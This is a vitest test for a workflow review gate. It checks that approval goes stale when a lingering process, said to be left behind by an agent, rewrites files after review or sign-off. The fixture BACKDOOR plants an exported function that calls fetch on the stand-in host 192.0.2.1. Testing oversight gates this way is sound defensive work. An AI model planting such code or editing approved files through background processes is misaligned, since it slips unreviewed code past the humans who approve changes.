import { spawn } from "node:child_process";
import { once } from "node:events";
import { expect, it } from "vitest";
import { openGates } from "@bylaw/plugin-gates";
import {
  CODE,
  HANDED,
  beginWalk,
  blockers,
  reasons,
  walkTo,
  type Walk,
} from "./workflow-walk-kit.ts";

const REVIEWED = HANDED.review();
const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;

/** Writes like a process that an agent's call left behind: no call asks about it. */
async function leftBehind(walk: Walk, path: string, text: string): Promise<void> {
  const write = "require('fs').writeFileSync(process.argv[1], process.argv[2])";
  const child = spawn(process.execPath, ["-e", write, walk.path(path), text], { stdio: "ignore" });
  expect(await once(child, "exit")).toEqual([0, null]);
}

it("what passed is what is reviewed, approved and completed, whatever is written in between (WF-88, WF-119)", async () => {
  const walk = await beginWalk();
  await walkTo(walk, "REVIEW");
  await walk.review();

  // Before the gate opens.
  await leftBehind(walk, "src/add.js", BACKDOOR);
  const before = await walk.move("COMPLETE", REVIEWED);
  expect(blockers(before), reasons(before)).toEqual(["gate_stale"]);
  expect(openGates(walk.run.view, walk.contract)).toEqual([]);

  // After the approval.
  walk.put("src/add.js", CODE);
  expect(blockers(await walk.move("COMPLETE", REVIEWED))).toEqual(["gate_pending"]);
  await walk.decide("review_approved", "rita", "approved");
  await leftBehind(walk, "src/add.js", BACKDOOR);
  const after = await walk.move("COMPLETE", REVIEWED);
  expect(blockers(after), reasons(after)).toEqual(["gate_stale"]);
  expect(walk.phase()).toBe("REVIEW");

  // When the task ends.
  walk.put("src/add.js", CODE);
  expect((await walk.move("COMPLETE", REVIEWED)).effect).toBe("allow");
  await leftBehind(walk, "src/more.js", BACKDOOR);
  const { task, agent, fence } = walk.held;
  const hold = {
    task,
    agent,
    fence,
    artifacts: HANDED.done,
    host: { token: walk.token(), workspace: walk.folder },
  };
  const ended = await walk.tasks.complete(hold);
  expect(blockers(ended.decision), reasons(ended.decision)).toEqual(["gate_stale"]);
  expect(walk.phase()).toBe("COMPLETE");
});
